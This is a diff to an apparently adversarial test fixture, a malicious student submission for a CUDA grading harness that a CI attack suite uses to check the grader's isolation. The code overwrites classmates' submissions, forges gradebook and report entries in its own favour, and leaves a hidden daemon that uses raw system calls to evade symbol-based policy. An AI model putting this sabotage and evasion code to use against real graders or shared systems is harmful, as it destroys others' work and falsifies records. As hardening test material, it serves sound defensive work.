@@ -8,8 +8,10 @@
 //   3. leaves a double-forked setsid daemon (named cugrade-attackd; raw system calls, so no
 //      symbol policy sees the fork) that waits for cugrade to exit, then rewrites the gradebook
 //      (itself with full marks, everyone else with 0) and every report target once more.
-// harness/tests/ci/attack_suite_test.sh grades a class with this student in it and checks that
-// none of it happened: every classmate's row, record, report and file as without the attacker,
+// Its own sums are right only if it could read a classmate's submission or the --out folder (a
+// copied solution, a published grade): a plagiarist's ceiling. harness/tests/ci/attack_suite_test.sh
+// grades a class with this student in it and checks that none of it happened (the attacker
+// itself scores 0): every classmate's row, record, report and file as without the attacker,
 // no marker, no process left. Every write is to a path found in the grader's own command line.
 #include <cstdio>
 #include <cstdlib>
@@ -141,6 +143,9 @@ static void leaveDaemon(int cugrade, const std::vector<Forgery>& forgeries) {
   rawSyscall(SYS_exit_group, 0);
 }
 
+// True when a classmate's file or the grades folder could be read from here.
+static bool read_classmates = false;
+
 static void attack() {
   const int cugrade = cugradeAncestor();
   if (cugrade == 0) return;
@@ -170,11 +175,14 @@ static void attack() {
                      "student,score,max_score,vecadd,outcome,gradable,submitted_at,late,note\r\n"
                      "mallory,9,9,9,passed,yes,,no,\r\n"});
   }
+  if (!out.empty() && !entries(out).empty()) read_classmates = true;
   if (!submissions.empty())
     for (const std::string& student : entries(submissions))
       for (const std::string& file : entries(student))
-        if (file.size() > 3 && file.compare(file.size() - 3, 3, ".cu") == 0 && file.find("mallory") == std::string::npos)
+        if (file.size() > 3 && file.compare(file.size() - 3, 3, ".cu") == 0 && file.find("mallory") == std::string::npos) {
+          if (!slurp(file).empty()) read_classmates = true;
           overwrite(file, "#error forged by a classmate\n");
+        }
   for (const std::string& report : reports) {
     overwrite(report, forged_record);
     later.push_back({report, forged_record});
@@ -190,5 +198,5 @@ void vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {
     first_call = false;
     attack();
   }
-  for (int i = 0; i < n; ++i) h_C[i] = 0.0f;
+  for (int i = 0; i < n; ++i) h_C[i] = read_classmates ? h_A[i] + h_B[i] : 0.0f;
 }
